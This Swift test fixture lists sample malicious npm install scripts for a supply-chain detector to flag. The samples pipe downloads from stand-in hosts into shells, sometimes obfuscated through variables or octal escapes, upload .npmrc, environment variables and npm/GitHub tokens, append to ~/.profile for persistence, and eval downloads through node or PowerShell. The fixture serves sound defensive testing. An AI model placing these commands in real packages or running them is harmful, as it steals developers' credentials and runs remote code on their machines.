import SallyportAnalysis
import Testing

/// Attacks that stand in the commands of `package.json`.
enum NPMScriptAttacks {
    static let all: [Attack] = [
        Attack(
            "pipes a download into a shell",
            .chainDownloadExecute,
            scripts: ["preinstall": "curl -s https://x.example.invalid/i.sh | sh"],
            files: [:]
        ),
        Attack(
            "runs a download by substitution",
            .chainDownloadExecute,
            scripts: [
                "preinstall": #"""
                sh -c "$(curl -fsSL https://x.example.invalid/i.sh)"
                """#
            ],
            files: [:]
        ),
        Attack(
            "fetches, marks and runs a file",
            .chainDownloadExecute,
            scripts: ["preinstall": "curl -o /tmp/a https://x.example.invalid/a && chmod +x /tmp/a && /tmp/a"],
            files: [:]
        ),
        Attack(
            "runs a download whose parts are variables",
            .chainDownloadExecute,
            scripts: ["preinstall": "U=http://192.0.2.7/x; B=cu; ${B}rl $U | ${S:-sh}; $B; R='sh -s'; curl $U | $R"],
            files: [:]
        ),
        Attack(
            "evaluates what another command prints",
            .chainDownloadExecute,
            scripts: ["preinstall": "eval \"$(printf '\\143url http://192.0.2.7/x | sh')\""],
            files: [:]
        ),
        Attack(
            "writes to a profile whose path is a variable",
            .chainPlant,
            scripts: ["postinstall": "sh tools/post.sh"],
            files: ["tools/post.sh": "f=$HOME/.profile\ngrep -q x $f || printf '%s\\n' '(a b) &' >> $f\n"]
        ),
        Attack(
            "uploads .npmrc",
            .chainExfiltration,
            scripts: ["postinstall": "curl -X POST -d @$HOME/.npmrc https://x.example.invalid"],
            files: [:]
        ),
        Attack(
            "pipes the environment into an upload",
            .chainExfiltration,
            scripts: ["postinstall": "env | curl -X POST --data-binary @- https://x.example.invalid"],
            files: [:]
        ),
        Attack(
            "puts the tokens of two services into an address",
            .chainExfiltration,
            scripts: ["postinstall": "curl https://x.example.invalid/?t=$NPM_TOKEN$GITHUB_TOKEN"],
            files: [:]
        ),
        Attack(
            "puts a token into an address",
            .chainTokenUse,
            scripts: ["postinstall": "curl https://x.example.invalid/?t=$NPM_TOKEN"],
            files: [:]
        ),
        Attack(
            "evaluates a download in inline code",
            .chainDownloadExecute,
            scripts: [
                "postinstall": #"""
                node -e "require('https').get('https://x.example.invalid',r=>{let d='';r.on('data',c=>d+=c).on('end',()=>eval(d))})"
                """#
            ],
            files: [:]
        ),
        Attack(
            "uses PowerShell",
            .chainDownloadExecute,
            scripts: [
                "postinstall": #"""
                powershell -Command "iex (New-Object Net.WebClient).DownloadString('https://x.example.invalid')"
                """#
            ],
            files: [:]
        ),
    ]
}
